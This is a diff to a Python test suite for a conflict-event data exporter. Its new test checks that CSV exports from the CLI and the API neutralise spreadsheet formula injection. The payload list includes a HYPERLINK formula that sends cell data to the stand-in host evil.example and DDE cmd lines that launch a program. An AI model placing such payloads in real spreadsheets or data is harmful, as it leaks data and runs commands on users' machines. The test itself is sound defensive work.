@@ -7,6 +7,7 @@ import io
 import json
 from pathlib import Path
 
+import httpx
 import pyarrow.parquet as pq
 import pytest
 from click.testing import CliRunner
@@ -24,7 +25,7 @@ def fill(url: str) -> None:
     with open_store(url) as store:
         store.add_document(
             make_document("Strike on Sarmada.", "https://r.test/1", source="Reuters"),
-            [make_event(killed=5, notes="Russian jets struck Sarmada.")],
+            [make_event(killed=5, notes="Russian jets struck Sarmada.", confidence=0.9)],
         )
         store.add_document(
             make_document("Strike in Sarmada killed 7.", "https://a.test/1", source="AFP"),
@@ -85,8 +86,9 @@ def test_acled_csv_has_acleds_columns_and_conventions(store_url):
     assert (strike["iso"], strike["region"], strike["country"]) == ("760", "Middle East", "Syria")
     assert (strike["admin1"], strike["location"], strike["geo_precision"]) == ("Idlib", "Sarmada", "1")
     assert (strike["latitude"], strike["longitude"]) == ("36.1800", "36.7200")
+    # Sources in the merge's reading order (by article, not by arrival); the notes of the surest report.
     assert (strike["source"], strike["fatalities"], strike["notes"]) == (
-        "Reuters; AFP",
+        "AFP; Reuters",
         "5",
         "Russian jets struck Sarmada.",
     )
@@ -186,3 +188,48 @@ def test_extract_csv_and_the_exports_share_their_event_columns(database, tmp_pat
     for name in ("actor1", "fatalities", "civilians_killed", "children_killed", "country", "geo_precision"):
         assert parquet[name] == row[name]
     assert "; ".join(parquet["assoc_actor_1"]) == row["assoc_actor_1"]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def formula_rows(text: str) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_no_csv_cell_starts_a_formula_while_numbers_stay_numbers(tmp_path):
+    """Sources and ids come from the input: every CSV eventwire writes neutralises formula starts."""
+    from eventwire.api import create_app
+    from eventwire.api.server import running
+    from eventwire.cli import main
+
+    url = str(tmp_path / "events.db")
+    with open_store(url) as store:
+        for number, formula in enumerate(FORMULAS):
+            store.add_document(
+                make_document(f"Strike {number}.", f"https://e.test/{number}", source=formula),
+                [make_event(place=f"Town {number}", lat=-12.5 - number, lon=-45.25, country="BR")],
+            )
+    exported = formula_rows(run_export(url))
+    with running(create_app(url)) as base:
+        downloaded = formula_rows(httpx.get(base + "api/events.csv", timeout=30).text)
+    for rows in (exported, downloaded):
+        assert sorted(row["source"] for row in rows) == sorted("'" + formula for formula in FORMULAS)
+        assert {row["longitude"] for row in rows} == {"-45.2500"}
+        assert {row["latitude"] for row in rows} == {f"{-12.5 - n:.4f}" for n in range(len(FORMULAS))}
+
+    docs = tmp_path / "docs.jsonl"
+    article = "Russian warplanes struck Sarmada on Monday, killing 12 civilians, rescuers said."
+    docs.write_text(json.dumps({"id": FORMULAS[0], "text": article, "published": "2024-12-04"}) + "\n")
+    result = CliRunner().invoke(main, ["extract", "--input", str(docs), "--format", "csv"])
+    assert result.exit_code == 0, result.output
+    (row,) = formula_rows(result.stdout)
+    assert row["doc_id"] == "'" + FORMULAS[0] and row["event_id"] == f"'{FORMULAS[0]}-1"
+    assert row["fatalities"] == "12" and float(row["latitude"]) > 0
